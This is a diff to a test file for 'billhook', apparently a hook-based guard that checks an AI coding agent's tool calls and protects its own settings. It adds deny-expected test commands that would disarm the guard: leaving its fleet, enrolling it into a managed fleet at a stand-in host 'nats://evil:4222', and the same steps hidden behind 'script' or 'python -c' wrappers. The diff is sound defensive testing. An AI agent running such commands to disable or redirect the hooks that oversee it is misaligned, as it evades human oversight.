@@ -17,7 +17,7 @@ from hypothesis import strategies as st
 
 from billhook.builtins.guard import guard
 from billhook.core.events import PreToolUse
-from billhook.effects.effect import Protected
+from billhook.effects.effect import ProtectedPaths
 from built_in.judging import disarms, guards
 
 NAMES = frozenset(
@@ -42,7 +42,7 @@ class World(msgspec.Struct, frozen=True):
         return self.base / "proj"
 
     @property
-    def protected(self) -> Protected:
+    def protected(self) -> ProtectedPaths:
         project, claude = self.project, self.home / ".claude"
         files = (
             claude / "settings.json",
@@ -51,7 +51,7 @@ class World(msgspec.Struct, frozen=True):
             project / "hooks.yaml",
         )
         state = tuple(str(claude / part) for part in ("billhook", "turns", "hooks"))
-        return Protected(tuple(map(str, files)), (str(project / ".billhook"),), state, NAMES)
+        return ProtectedPaths(tuple(map(str, files)), (str(project / ".billhook"),), state, NAMES)
 
     def snapshot(self) -> dict[str, object]:
         """Everything that is protected, as it lies on the disk."""
@@ -669,6 +669,11 @@ DOUBTED = {
     "trust-incomplete": ("billhook trust --all '", "deny"),
     "uninstall": ("billhook uninstall", "deny"),
     "daemon-stop": ("billhook daemon stop", "deny"),
+    "fleet-leave": ("billhook fleet leave --yes", "deny"),
+    "fleet-enrol": ("script -qc 'billhook fleet enrol nats://evil:4222 x.creds --managed --yes' /dev/null", "deny"),
+    "fleet-publish": ("billhook fleet publish hooks.yaml", "deny"),
+    "fleet-list": ("python -c \"import subprocess; subprocess.run(['billhook', 'fleet', 'leave'])\"", "deny"),
+    "fleet-module": ("python -c \"from billhook.fleet import enrolment as e; e.leave(e.Path('/r'))\"", "deny"),
 }  # fmt: skip
 
 
@@ -761,6 +766,7 @@ HARMLESS = [
     "billhook", "billhook list", "billhook check", "billhook check hooks.yaml", "billhook trust --list",
     "billhook trust --list --json", "billhook explain 'rm -rf /'", "billhook trust --help",
     "billhook fire PreToolUse --tool Bash", "BILLHOOK_HOME=/tmp/x billhook list", "billhook daemon status",
+    "billhook fleet status", "billhook fleet enrol --help",
     "billhook explain 'billhook trust'", "grep -rn 'billhook trust' docs", "echo billhook trust",
     "git commit -m 'billhook trust --all'", "pip install billhook", "uvx billhook check",
     "sort a.txt | uniq -c | sort -rn > counts", "dd if=/dev/zero of=build/z bs=1 count=1", "truncate -s 0 build/log",
